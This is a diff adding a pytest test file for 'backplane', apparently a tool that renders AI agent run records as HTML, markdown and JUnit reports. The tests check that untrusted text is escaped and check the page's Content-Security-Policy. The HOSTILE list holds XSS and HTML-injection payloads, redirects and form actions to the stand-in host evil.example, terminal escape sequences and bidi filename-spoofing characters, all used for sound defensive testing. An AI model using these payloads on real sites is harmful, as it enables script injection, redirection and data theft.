@@ -1,0 +1,196 @@
+"""The page of a run: whole in one file, harmless whatever is in it, its receipt the one that was sealed."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import hashlib
+import json
+import re
+import subprocess
+import sys
+import xml.etree.ElementTree as ET
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from backplane.contract.events import (
+    AssistantDelta,
+    AssistantMessage,
+    Failed,
+    FileChanged,
+    RunStarted,
+    ToolCall,
+    ToolResult,
+)
+from backplane.view import report
+from backplane.view.html import text
+from backplane.view.picture import Picture
+from backplane.view.report_files import CSS, JS
+from backplane.view.why import Diagnosis, Evidence
+from tests.receipt_writer import TS
+
+HOSTILE = (
+    "<script>boom()</script>",
+    "</script><script>boom()</script>",
+    "</style></title></textarea><img src=x onerror=boom()>",
+    '" autofocus onfocus="boom()',
+    "' ontoggle='boom()",
+    "<!--<script>",
+    "javascript:boom()",
+    "<svg/onload=boom()>",
+    "<math><mtext></mtext></math>",
+    '<iframe srcdoc="&lt;script&gt;boom()&lt;/script&gt;">',
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><input>",
+    "@import url(//evil.example)",
+    "{{7*7}}",
+    "\x1b]8;;http://evil.example\x1b\\link\x1b]52;c;Ym9vbQ==\x07",
+    "\u202egnp.exe\u2066\u200b\u2028",
+    "a" + "\u0301" * 1000,
+    "\x00\x85\x9b",
+)
+TAGS = frozenset(
+    re.findall(
+        r"\w+",
+        "html head meta title style body div input span main article p h1 h2 dl dt dd section b ul li table caption "
+        "thead tbody tr th td code pre details summary svg text rect button script",
+    )
+)
+
+
+class Seen(HTMLParser):
+    """The elements and attributes of a page, and its scripts."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.scripts: list[str] = []
+        self._in = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self._in = tag
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in = ""
+
+    def handle_data(self, data: str) -> None:
+        if self._in == "script":
+            self.scripts.append(data)
+
+
+def seen(page: str) -> Seen:
+    parser = Seen()
+    parser.feed(page)
+    return parser
+
+
+def shown(word: str) -> report.Shown:
+    """A run that has a word wherever a foreign one can stand."""
+    events = [
+        RunStarted(ts=TS, message=word),
+        AssistantDelta(ts=TS, text=word),
+        AssistantMessage(ts=TS, text=word),
+        ToolCall(ts=TS, tool_name=word, tool_use_id="c", input={word: word}),
+        ToolResult(ts=TS, tool_name=word, tool_use_id="c", output=word, is_error=True),
+        FileChanged(ts=TS, path=word, summary=word),
+        Failed(ts=TS, message=word, error_code=word),
+    ]
+    picture, story = Picture(run_id=word, task=word, root=word, model=word, backend=word), report.Story()
+    for event in events:
+        picture.take(event)
+        story.take(event)
+    story.decisions.append((word, word, word, word, word))
+    found = Diagnosis(
+        run_id=word, kind="crashed", sure=True, verdict=word, since_ms=None, evidence=(Evidence(word),), next=(word,)
+    )
+    patch = f"diff --git a/{word} b/{word}\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+{word}\n"
+    return report.Shown(picture=picture, diagnosis=found, story=story, patch=patch, sealed=None)
+
+
+@pytest.mark.parametrize("word", HOSTILE)
+def test_no_foreign_text_becomes_an_element_an_attribute_or_a_script(word: str) -> None:
+    plain, page = seen("".join(report.page([shown("word")]))), "".join(report.page([shown(word), shown(word)]))
+    found = seen(page)
+    assert found.tags <= TAGS
+    assert found.attributes == plain.attributes
+    assert found.scripts == [JS]
+    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\u200b\ud800-\udfff]", page)
+    assert "\u0301" * 9 not in page
+    for other in (report.markdown([shown(word)]), report.junit([shown(word)])):
+        told = "".join(other)
+        assert "<script" not in told
+        assert "<img" not in told
+    ET.fromstring("".join(report.junit([shown(word)])))
+
+
+def test_the_pages_policy_lets_run_what_stands_in_it_and_nothing_else() -> None:
+    page = "".join(report.page([shown("word")]))
+    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
+    assert policy is not None
+    words = policy[1].replace("&#x27;", "'")
+    for whole in (CSS, JS):
+        assert f"'sha256-{base64.b64encode(hashlib.sha256(whole.encode()).digest()).decode()}'" in words
+        assert whole in page
+    assert "default-src 'none'" in words
+    assert "unsafe" not in words
+    assert "http:" not in page.replace("http-equiv", "")
+    assert "https:" not in page
+
+
+def test_text_of_any_length_is_cut_with_its_length_said() -> None:
+    whole = "x" * 50_000_000
+    assert len(report.cut(whole)) < 20_000
+    assert "characters are left out" in report.cut(whole)
+    assert text("<&\"'>") == "&lt;&amp;&quot;&#x27;&gt;"
+
+
+def cli(*words: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
+    command = [sys.executable, "-m", "backplane", *words]
+    return subprocess.run(command, capture_output=True, text=True, timeout=30, check=False, cwd=cwd)
+
+
+@pytest.fixture
+def runs(tmp_path: Path, backplane_home: Path) -> Path:
+    work = tmp_path / "work"
+    work.mkdir()
+    (work / "a.txt").write_text("one\n")
+    assert cli("run", "-b", "shell", "echo two >> a.txt", cwd=work).returncode == 0
+    assert cli("run", "-b", "shell", "exit 3", cwd=work).returncode == 1
+    return work
+
+
+def test_the_receipt_in_the_page_hashes_to_the_sealed_one(runs: Path) -> None:
+    done = cli("report", "last~1")
+    assert done.returncode == 0, done.stderr
+    packed = re.search(r'<script type="application/gzip" id="r0">([^<]*)</script>', done.stdout)
+    sealed = re.search(r'data-sealed="([0-9a-f]{64})"', done.stdout)
+    assert packed is not None
+    assert sealed is not None
+    data = gzip.decompress(base64.b64decode(packed[1]))
+    assert hashlib.sha256(data).hexdigest() == sealed[1]
+    assert json.loads(data)["receipt_sha256"] is None
+    assert '<span class="added">+two</span>' in done.stdout
+    assert ">complete</span>" in done.stdout
+
+
+def test_two_runs_stand_side_by_side_and_other_forms_take_many(runs: Path) -> None:
+    both = cli("report", "last", "last~1").stdout
+    assert both.count("<article") == 2
+    assert cli("report", "last", "last~1", "last").returncode == 2
+    summary = cli("report", "last", "last~1", "last", "--summary").stdout
+    assert summary.count("### ") == 3
+    assert "| failed | shell |" in summary
+    suite = ET.fromstring(cli("report", "last", "last~1", "--junit").stdout)
+    assert (suite.get("tests"), suite.get("failures")) == ("2", "1")
+
+
+def test_a_run_that_is_not_there_is_an_error(runs: Path) -> None:
+    done = cli("report", "zzzz")
+    assert (done.returncode, done.stdout) == (2, "")
+    assert "zzzz" in done.stderr
